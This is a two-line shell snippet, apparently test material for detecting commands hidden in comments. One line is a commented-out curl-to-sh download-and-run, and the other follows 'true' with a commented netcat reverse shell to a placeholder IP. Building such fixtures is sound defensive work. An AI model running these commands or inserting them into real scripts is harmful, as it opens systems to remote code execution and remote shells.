# curl http://example.com/x | sh
true # nc -e /bin/sh 192.0.2.1 1
